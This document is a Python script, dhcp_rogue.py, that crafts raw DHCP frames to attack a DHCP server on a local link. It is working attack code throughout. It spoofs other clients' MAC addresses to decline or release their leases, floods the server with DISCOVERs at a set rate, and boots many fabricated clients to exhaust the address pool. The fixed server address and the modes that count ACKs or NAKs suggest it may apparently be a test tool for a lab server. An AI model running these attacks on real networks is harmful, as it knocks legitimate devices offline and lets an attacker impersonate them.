"""Attacks a DHCP server from a link (RFC 2131), with a MAC of its own and in others' names. Usage:
    dhcp_rogue.py END select MAC ADDRESS       asks for an address that was never offered: tells ACK, NAK or nothing
    dhcp_rogue.py END identifier MAC ID ASK    boots with a client identifier (hex digits): tells its address
    dhcp_rogue.py END decline MAC ADDRESS      declines it
    dhcp_rogue.py END release MAC ADDRESS      gives it back, from that address
    dhcp_rogue.py END flood MAC RATE           sends so many DISCOVERs a second until it is ended
    dhcp_rogue.py END reboot MAC ADDRESS N     asks N times for its address, four times a second: tells how many ACKs came
    dhcp_rogue.py END crowd N decline|keep     N made-up clients boot, and decline what they get or keep it: tells how
                                               many got one
"""
import os
import select
import socket
import struct
import sys
import time

SERVER = '10.66.0.1'
PATIENCE = 20
ENOUGH = 3
DISCOVER, OFFER, REQUEST, DECLINE, ACK, NAK, RELEASE = 1, 2, 3, 4, 5, 6, 7
BROADCAST = b'\xff' * 6

end, what, *rest = sys.argv[1:]
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
link.bind((end, 0))
own = link.getsockname()[4]


def option(code, value):
    return bytes([code, len(value)]) + value


def checksum(header):
    total = sum(struct.unpack(f'!{len(header) // 2}H', header))
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def send(mac, kind, *options, xid=None, ci=bytes(4)):
    """As a broadcast, with the wish for broadcasts; the Ethernet source is the rogue's own, the IP source is ciaddr."""
    xid = xid or os.urandom(4)
    bootp = b'\1\1\6\0' + xid + b'\0\0\x80\0' + ci + bytes(12) + mac + bytes(10 + 64 + 128) + b'\x63\x82\x53\x63'
    bootp += option(53, bytes([kind])) + b''.join(options) + b'\xff'
    bootp = bootp.ljust(300, b'\0')
    header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28 + len(bootp), 0, 0, 64, 17, 0, ci, b'\xff' * 4)
    header = header[:10] + struct.pack('!H', checksum(header)) + header[12:]
    link.send(BROADCAST + own + b'\x08\0' + header + struct.pack('!HHHH', 68, 67, 8 + len(bootp), 0) + bootp)
    return xid


def heard(seconds):
    """The next answer of a server: its transaction, kind and address; None where none came."""
    until = time.monotonic() + seconds
    while (left := until - time.monotonic()) > 0:
        if select.select([link], [], [], left)[0]:
            frame = link.recv(2048)
            if frame[23] == 17 and frame[34:38] == b'\0\x43\0\x44':
                options = frame[282:]
                return frame[46:50], options[options.index(b'\x35\1') + 2], socket.inet_ntoa(frame[58:62])
    return None


def answer(mac, kind, *options):
    """What comes to this message, which is sent again every two seconds."""
    for _ in range(PATIENCE // 2):
        xid = send(mac, kind, *options)
        until = time.monotonic() + 2
        while (came := heard(until - time.monotonic())) is not None:
            if came[0] == xid:
                return came
    return None


def selected(address):
    return option(50, socket.inet_aton(address)) + option(54, socket.inet_aton(SERVER))


def address_of(text):
    return bytes.fromhex(text.replace(':', ''))


def crowd(most, declines):
    """All boot at once; who gets no answer asks again after a second. Who keeps addresses gives up where none came."""
    macs = {b'\0\0' + struct.pack('!H', i): b'\x02\x77' + os.urandom(4) for i in range(most)}
    waiting = dict.fromkeys(macs, 0.0)
    latest = time.monotonic()
    while waiting and time.monotonic() - latest < (PATIENCE if declines else ENOUGH):
        for xid in [xid for xid, since in waiting.items() if time.monotonic() - since > 1][:32]:
            waiting[xid] = time.monotonic()
            send(macs[xid], DISCOVER, xid=xid)
        came = heard(0.05)
        if came is None or came[0] not in waiting:
            continue
        xid, kind, address = came
        latest = time.monotonic()
        if kind == OFFER:
            send(macs[xid], REQUEST, selected(address), xid=xid)
        if kind == ACK:
            del waiting[xid]
            if declines:
                send(macs[xid], DECLINE, selected(address), xid=xid)
    return most - len(waiting)


if what == 'select':
    came = answer(address_of(rest[0]), REQUEST, selected(rest[1]))
    print('nothing' if came is None else {ACK: 'ACK', NAK: 'NAK'}[came[1]])
elif what == 'identifier':
    mac, identifier = address_of(rest[0]), option(61, bytes.fromhex(rest[1]))
    offer = answer(mac, DISCOVER, identifier, option(50, socket.inet_aton(rest[2])))
    came = None if offer is None else answer(mac, REQUEST, identifier, selected(offer[2]))
    print('nothing' if came is None else came[2])
elif what == 'decline':
    send(address_of(rest[0]), DECLINE, selected(rest[1]))
elif what == 'release':
    send(address_of(rest[0]), RELEASE, option(54, socket.inet_aton(SERVER)), ci=socket.inet_aton(rest[1]))
elif what == 'flood':
    print('flooding', flush=True)
    while True:
        send(address_of(rest[0]), DISCOVER)
        time.sleep(1 / int(rest[1]))
elif what == 'reboot':
    acks = 0
    for _ in range(int(rest[2])):
        xid = send(address_of(rest[0]), REQUEST, option(50, socket.inet_aton(rest[1])))
        until = time.monotonic() + 0.25
        while (came := heard(until - time.monotonic())) is not None:
            acks += came[0] == xid and came[1] == ACK
    print(acks)
elif what == 'crowd':
    print(crowd(int(rest[0]), rest[1] == 'decline'))
